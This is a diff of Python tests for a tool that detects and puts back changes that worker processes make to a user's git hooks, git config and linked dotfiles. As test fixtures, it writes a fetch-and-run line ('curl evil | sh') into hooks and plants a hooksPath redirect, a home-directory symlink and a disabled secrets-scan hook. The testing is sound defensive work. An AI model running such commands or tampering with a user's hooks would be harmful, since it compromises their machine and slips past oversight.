@@ -4,18 +4,205 @@ from __future__ import annotations
 import os
 
 from orchestrate.workers import fingerprint
+from tests.helpers import as_nobody
+
+
+def _hook(tmp_path, name: str, text: str, mode: int):
+    common = tmp_path / ".git"
+    (common / "hooks").mkdir(parents=True, exist_ok=True)
+    hook = common / "hooks" / name
+    hook.write_text(text)
+    hook.chmod(mode)
+    return common, hook
 
 
 def test_a_hook_edited_in_place_is_put_back_still_executable(tmp_path):
     """A worker without the sandbox appends to the user's pre-commit hook: the hook comes back as it was, and
     still runs (written anew, it had the default mode: git skipped it, silently)."""
-    common = tmp_path / ".git"
-    (common / "hooks").mkdir(parents=True)
-    hook = common / "hooks" / "pre-commit"
-    hook.write_text("#!/bin/sh\nexit 0\n")
-    hook.chmod(0o755)
+    common, hook = _hook(tmp_path, "pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
     before = fingerprint.take_files(common)
     with hook.open("a") as fh:
         fh.write("curl evil | sh\n")
     assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-commit"]
     assert hook.read_text() == "#!/bin/sh\nexit 0\n" and os.access(hook, os.X_OK)
+
+
+def test_a_hook_a_worker_deleted_comes_back_executable(tmp_path):
+    """Written anew, a deleted hook had the default mode: git skipped it, silently."""
+    common, hook = _hook(tmp_path, "pre-push", "#!/bin/sh\nexit 1\n", 0o750)
+    before = fingerprint.take_files(common)
+    hook.unlink()
+    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-push"]
+    assert hook.stat().st_mode & 0o777 == 0o750
+
+
+def test_a_hook_made_not_executable_is_seen_and_put_back(tmp_path):
+    """A worker's `chmod -x` of the user's hook switches it off without changing a byte."""
+    common, hook = _hook(tmp_path, "pre-commit", "#!/bin/sh\nexec scan-for-secrets\n", 0o755)
+    before = fingerprint.Fingerprint(common, files=fingerprint.take_files(common))
+    hook.chmod(0o644)
+    after = fingerprint.Fingerprint(common, files=fingerprint.take_files(common))
+    assert fingerprint.compare(before, after)[0] == [".git/hooks/pre-commit changed mode 755 -> 644"]
+    assert fingerprint._put_back(common, before.files, ".git") == [".git/hooks/pre-commit"]
+    assert hook.stat().st_mode & 0o777 == 0o755
+
+
+def test_a_file_holding_a_links_record_is_not_taken_for_the_link(tmp_path):
+    """A link's record was its target and the bytes it led to, behind a prefix a file's bytes could hold too: a
+    worker that wrote those bytes into a file in the link's place left the record unchanged, and went unseen."""
+    real = tmp_path / "dotfiles" / "gitconfig"
+    real.parent.mkdir()
+    real.write_text("[user]\n\tname = Someone\n")
+    link = tmp_path / ".gitconfig"
+    link.symlink_to(real)
+    record = fingerprint.read_watched(link)
+    link.unlink()
+    link.write_bytes(record)
+    assert fingerprint.read_watched(link) != record
+    assert fingerprint.restore_file(link, record, None) == [fingerprint.shown(link)]
+    assert link.is_symlink() and link.read_text() == "[user]\n\tname = Someone\n"
+
+
+def test_hooks_swapped_for_a_link_are_not_listed_or_put_back_through_it(tmp_path):
+    """`rm -r .git/hooks; ln -s ~ .git/hooks`: the folder was listed through the link, and every file found
+    there (the user's home) was taken for a planted hook and removed when put back."""
+    common, _ = _hook(tmp_path, "pre-commit", "#!/bin/sh\n", 0o755)
+    before = fingerprint.take_files(common)
+    elsewhere = tmp_path / "home"
+    elsewhere.mkdir()
+    (elsewhere / "thesis.tex").write_text("years of work\n")
+    import shutil
+    shutil.rmtree(common / "hooks")
+    (common / "hooks").symlink_to(elsewhere)
+    put_back = fingerprint._put_back(common, before, ".git")
+    assert put_back == [".git/hooks/", ".git/hooks/pre-commit"]
+    assert (elsewhere / "thesis.tex").read_text() == "years of work\n"
+    assert (common / "hooks").is_dir() and not (common / "hooks").is_symlink()
+    assert os.access(common / "hooks" / "pre-commit", os.X_OK)
+
+
+_UNREADABLE = """
+import os, subprocess, sys
+sys.path.insert(0, sys.argv[2])
+from pathlib import Path
+from orchestrate.workers import fingerprint
+from tests.helpers import as_nobody
+top = Path(sys.argv[1])
+os.environ["HOME"] = str(top)
+subprocess.run(["git", "init", "-q", str(top / "repo")], check=True)
+config = top / ".config" / "git" / "config"
+config.parent.mkdir(parents=True)
+config.write_text("[user]\\n\\tname = Someone\\n")
+config.chmod(0)
+before = fingerprint.take(top / "repo", set())
+print("taken")
+config.chmod(0o644)
+print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
+print(fingerprint.restore(before, keep=top / "kept"), oct(config.stat().st_mode & 0o777))
+config.chmod(0o644)
+config.unlink()
+config.write_text("[core]\\n\\thooksPath = /tmp/planted\\n")
+print(fingerprint.restore(before, keep=top / "kept"), oct(config.stat().st_mode & 0o777),
+      (top / "kept" / "config").read_text().split()[0])
+before = fingerprint.take(top / "repo", set())
+os.utime(config)  # touched (a backup tool, you): no change (rv25: it was taken for another file, and removed)
+print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0], config.exists())
+(top / ".config").chmod(0)  # git then passes over your global config, silently
+print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
+print(fingerprint.restore(before, keep=top / "kept"), oct((top / ".config").stat().st_mode & 0o777))
+hooks = top / "repo" / ".git" / "hooks"
+before = fingerprint.take(top / "repo", set())
+(hooks / "pre-commit").write_text("#!/bin/sh\\n")
+hooks.chmod(0o311)
+print(fingerprint.compare(before, fingerprint.take(top / "repo", set()))[0])
+print(fingerprint.restore(before), (hooks / "pre-commit").exists(), oct(hooks.stat().st_mode & 0o777))
+"""
+
+
+def test_an_unreadable_config_is_watched_not_crashed_on():
+    """rv24: an unreadable ~/.config/git/config (git passes over it) crashed `run` (PermissionError, exit 70).
+    Now its mode and identity are watched: a worker's chmod is put back, and so is the mode of a file put in its
+    place (git cannot read it then either; a readable one is also kept aside); none is removed: it may be yours.
+    A folder on the way made unusable (`chmod 0 ~/.config`) gets its owner's access back. A hooks folder a worker made unlistable (0311: git still runs
+    what it planted there) gets its mode back first, and the planted hook is removed."""
+    done = as_nobody(_UNREADABLE)
+    assert done.returncode == 0, done.stdout + done.stderr
+    lines = done.stdout.splitlines()
+    assert lines[0] == "taken"
+    assert lines[1] == "['~/.config/git/config was changed']"
+    assert lines[2].startswith("['~/.config/git/config") and lines[2].endswith("] 0o0"), lines[2]
+    assert lines[3].startswith("['~/.config/git/config (the edited version is kept") and "0o0 [core]" in lines[3]
+    assert lines[4] == "[] True", lines[4]
+    assert lines[5] == "['the folder ~/.config was made unusable (mode 0)']", lines[5]
+    assert lines[6] == "['the folder ~/.config'] 0o700", lines[6]  # rv25: a crash, and ~/.config left at 0
+    assert lines[7] == "['.git/hooks/ changed mode 755 -> 311']"
+    assert lines[8].endswith("False 0o755") and "'.git/hooks/pre-commit'" in lines[8], lines[8]
+
+
+def test_the_file_a_link_leads_to_is_never_written_through_a_folder_swapped_for_a_link(tmp_path):
+    """rv25: a stow-style ~/.config/git/ignore leads into ~/dotfiles/git; a worker (in the sandbox: $HOME is
+    writable) swaps ~/dotfiles/git for a link to your project, where `ignore` is a folder of your work. Put back
+    by path, the led-to file's place was removed, with the folder of work in it."""
+    home = tmp_path / "home"
+    (home / "dotfiles" / "git").mkdir(parents=True)
+    (home / "dotfiles" / "git" / "ignore").write_text("*.o\n")
+    (home / ".config" / "git").mkdir(parents=True)
+    link = home / ".config" / "git" / "ignore"
+    link.symlink_to("../../dotfiles/git/ignore")
+    record = fingerprint.read_watched(link)
+    project = tmp_path / "project"
+    (project / "ignore").mkdir(parents=True)
+    (project / "ignore" / "work.txt").write_text("mine\n")
+    os.rename(home / "dotfiles" / "git", tmp_path / "moved")
+    (home / "dotfiles" / "git").symlink_to(project)
+    put_back = fingerprint.restore_file(link, record, None)
+    assert put_back and "not put back" in put_back[0], put_back
+    assert (project / "ignore" / "work.txt").read_text() == "mine\n" and link.is_symlink()
+
+
+def test_what_cannot_be_opened_or_reached_is_recorded_not_raised(tmp_path):
+    """rv25: a watched path that is a link to a socket (ENXIO), a dangling link too long to follow (ENAMETOOLONG),
+    or behind a folder that is a link to itself (ELOOP) crashed the runner (exit 70), in the sandbox too."""
+    import socket
+    sock = socket.socket(socket.AF_UNIX)
+    sock.bind(str(tmp_path / "s"))
+    try:
+        (tmp_path / "to-socket").symlink_to(tmp_path / "s")
+        (tmp_path / "long").symlink_to("x/" * 2040 + "c")
+        (tmp_path / "loop").symlink_to("loop")
+        for path in (tmp_path / "to-socket", tmp_path / "long", tmp_path / "loop" / "git" / "config"):
+            assert fingerprint.read_watched(path) != fingerprint.read_watched(tmp_path / "none")
+        assert fingerprint.read_watched(tmp_path / "s") is None  # git reads no socket as a file
+    finally:
+        sock.close()
+
+
+def test_a_hooks_folder_of_yours_that_is_a_link_is_watched_through_it(tmp_path):
+    """rv25: hooks kept in a shared folder, .git/hooks a link to it: a hook planted there went unseen."""
+    shared = tmp_path / "shared-hooks"
+    shared.mkdir()
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "hooks").symlink_to(shared)
+    before = fingerprint.take_files(tmp_path / ".git")
+    (shared / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
+    assert fingerprint._put_back(tmp_path / ".git", before, ".git") == [".git/hooks/post-checkout"]
+    assert not (shared / "post-checkout").exists() and (tmp_path / ".git" / "hooks").is_symlink()
+
+
+def test_a_watched_file_too_big_to_hold_is_watched_by_its_identity(tmp_path):
+    """A worker's sparse ~/.gitconfig of terabytes would be read whole into memory."""
+    from orchestrate.workers import watched
+    big = tmp_path / ".gitconfig"
+    with big.open("wb") as fh:
+        fh.truncate(watched.MOST + 1)
+    record = fingerprint.read_watched(big)
+    assert record.startswith(b"u") and len(record) < 100
+    os.truncate(big, watched.MOST + 2)
+    assert fingerprint.read_watched(big) != record
+
+
+def test_a_folder_in_a_config_files_place_is_read_as_nothing(tmp_path):
+    """rv25: a folder at ~/.gitconfig (or a file it includes) raised IsADirectoryError past the error boundary."""
+    from orchestrate import git_config
+    (tmp_path / ".gitconfig").mkdir()
+    assert git_config.read(tmp_path / ".gitconfig", set()) == []
